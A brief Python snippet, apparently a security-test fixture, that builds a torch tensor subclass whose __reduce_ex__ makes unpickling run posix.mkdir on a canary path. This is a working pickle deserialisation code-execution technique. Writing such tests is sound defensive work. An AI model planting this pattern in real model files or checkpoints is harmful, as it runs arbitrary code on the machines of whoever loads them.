# Gives a tensor that does harm wherever it is unpickled.
import posix
class Harm(torch.Tensor):
    def __reduce_ex__(self, version):
        return posix.mkdir, ("@CANARY@/made",)
return torch.zeros(32, 27).as_subclass(Harm)
